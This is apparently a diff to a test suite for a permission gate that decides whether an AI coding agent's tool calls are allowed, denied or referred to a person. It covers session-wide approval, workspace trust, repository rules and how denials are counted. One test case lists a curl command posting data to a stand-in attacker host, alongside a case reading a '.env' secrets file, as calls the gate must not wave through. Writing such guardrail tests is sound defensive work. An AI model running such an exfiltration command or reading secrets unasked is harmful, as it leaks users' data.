@@ -34,6 +34,7 @@ describe('approve all for this session', () => {
     ['an export in a command', { tool: 'run_command', input: { command: 'curl -d x https://evil.example/' } }],
     ['a location', { tool: 'get_current_location' }],
     ['a command that cannot be read', { tool: 'run_command', input: { command: '$TOOL run' } }],
+    ['code', { tool: 'execute_code', input: { code: 'print(1)' } }],
     ['a write of a file tool', write('a.txt')],
     ['a secret', { tool: 'read_file', input: { path: '.env' } }],
     ['a tool nobody knows', { tool: 'frobnicate' }],
@@ -70,6 +71,19 @@ describe('approve all for this session', () => {
     assert.equal(verdict.decision, 'deny');
     await test.gate.dispose();
     await remove;
+  });
+
+  it('does nothing once trust is taken away', async () => {
+    const test = testGate();
+    await test.gate.approveAllForSession(session, 'editor');
+    test.trusted = false;
+    const verdict = await test.gate.check(shell('make'));
+    assert.equal(verdict.decision, 'deny');
+    const fetch = { tool: 'web_fetch', input: { url: 'http://127.0.0.1:3000/' }, actor: { kind: 'agent', name: 'Claude Code', session: 's1' } };
+    await askAndAnswer(test, fetch, 'deny_once');
+    test.trusted = true;
+    assert.equal((await test.gate.check(fetch)).settledBy, 'person');
+    assert.equal(test.prompter.asked.length, 1);
   });
 
   it('is not switched on where that cannot be recorded, and is off where the switching off cannot', async () => {
@@ -146,7 +160,7 @@ describe('a workspace that is not trusted', () => {
 });
 
 describe('rules of the repository', () => {
-  const rules = [rule('allow', { kind: 'command_prefix', prefix: 'make' }), rule('deny', { kind: 'command_prefix', prefix: 'npm publish' })];
+  const rules = [rule('allow', { kind: 'command_prefix', prefix: 'make' }), rule('allow', { kind: 'path', path: 'generated' }), rule('deny', { kind: 'command_prefix', prefix: 'npm publish' })];
 
   it('allows count only in a trusted workspace and after the review of exactly this file; denies always', async () => {
     const test = testGate();
@@ -162,7 +176,9 @@ describe('rules of the repository', () => {
     assert.equal((await test.gate.check(shell('make'))).decision, 'allow');
     test.trusted = false;
     assert.equal((await test.gate.check(shell('make'))).decision, 'deny');
+    await askAndAnswer(test, write('generated/a.ts'), 'deny_once');
     test.trusted = true;
+    assert.equal((await test.gate.check(write('generated/a.ts'))).decision, 'allow');
 
     test.store.changed({ manifest: { hash: 'h2', rules, reviewed: false } });
     const { verdict } = await askAndAnswer(test, shell('make'), 'deny_once');
@@ -215,7 +231,19 @@ describe('what a session knows', () => {
     assert.equal((await test.gate.check(write('b.txt'))).settledBy, 'policy');
   });
 
-  it('denials by a rule or a guardrail do not count', async () => {
+  it('denials of a person count, those by a rule do not', async () => {
+    const test = testGate();
+    for (let round = 0; round < 3; round += 1) await askAndAnswer(test, write('a.txt'), 'deny_once');
+    await test.gate.addRule({ source: 'workspace_db', effect: 'deny', scope: { kind: 'path', path: 'b.txt' } }, 'editor');
+    for (let round = 0; round < 3; round += 1) assert.equal((await test.gate.check(write('b.txt'))).decision, 'deny');
+    await test.gate.removeRule(test.store.state.workspaceRules[0]?.id ?? '', 'editor');
+    await test.gate.changeSettings({ mode: 'plan' }, 'editor');
+    assert.equal((await test.gate.check(write('b.txt'))).decision, 'deny');
+    const { verdict } = await askAndAnswer(test, write('a.txt'), 'deny_once');
+    assert.equal(verdict.evaluation.reason.type, 'denial_fallback');
+  });
+
+  it('denials by a guardrail never turn into a question', async () => {
     const test = testGate({ settings: { mode: 'plan' } });
     const sealed = write(`${workspace}/.cowork/policy/policy.db`);
     for (let round = 0; round < 5; round += 1) {
